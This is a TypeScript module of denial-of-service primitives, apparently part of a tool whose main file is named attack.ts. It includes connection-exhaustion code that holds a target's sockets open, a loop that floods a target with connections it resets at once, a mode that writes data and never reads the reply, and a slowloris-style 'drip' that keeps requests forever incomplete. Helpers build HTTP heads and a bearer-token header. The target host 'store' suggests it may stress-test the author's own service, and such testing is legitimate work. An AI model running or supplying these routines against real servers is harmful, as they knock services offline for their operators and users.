import { connect, type Socket } from 'node:net';
import type { Target } from './attack.ts';

/** Milliseconds until a connection that was closed is opened again. */
const PAUSE_MS = 20;

/** Few enough that the queue of connections to be accepted doesn't overflow: the kernel would forget some of them. */
const OPENED_PER_MS = 5;

/** Keeps the attack's connections open. @returns those that are open */
export function keepOpen(
  { host, port, connections }: Target,
  onConnect: (socket: Socket) => void,
): ReadonlySet<Socket> {
  const sockets = new Set<Socket>();
  const open = () => {
    const socket = connect({ host, port, allowHalfOpen: true });
    socket
      .once('connect', () => {
        sockets.add(socket);
        onConnect(socket);
      })
      // Answered or refused, the server may end what it likes.
      .once('end', () => socket.destroy())
      .on('error', () => undefined)
      .once('close', () => {
        sockets.delete(socket);
        setTimeout(open, PAUSE_MS);
      });
  };
  for (let count = 0; count < connections; count += 1) {
    setTimeout(open, count / OPENED_PER_MS);
  }
  return sockets;
}

/** Opens connections and resets each as soon as it is open, as many at a time as the attack has. */
export function keepResetting({ host, port, connections }: Target): void {
  const open = () => {
    const socket = connect({ host, port });
    socket
      .once('connect', () => socket.resetAndDestroy())
      .on('error', () => undefined)
      .once('close', () => setImmediate(open));
  };
  for (let count = 0; count < connections; count += 1) {
    open();
  }
}

/** Writes the bytes on each connection, and reads no answer. */
export function writeUnread(target: Target, bytes: string): void {
  keepOpen(target, (socket) => {
    socket.pause();
    socket.write(bytes);
  });
}

/** Writes the beginning on each connection, and then a piece now and then, for ever. */
export function drip(
  target: Target,
  { beginning, piece, interval }: { beginning: string; piece: string; interval: number },
): void {
  keepOpen(target, (socket) => {
    socket.resume();
    socket.write(beginning);
    const dripping = setInterval(() => socket.write(piece), interval);
    socket.once('close', () => {
      clearInterval(dripping);
    });
  });
}

/** The head of a request. */
export function head(line: string, ...headers: readonly string[]): string {
  return [`${line} HTTP/1.1`, 'Host: store', ...headers, '', ''].join('\r\n');
}

export function bearer({ key }: Target): string {
  return `Authorization: Bearer ${key}`;
}
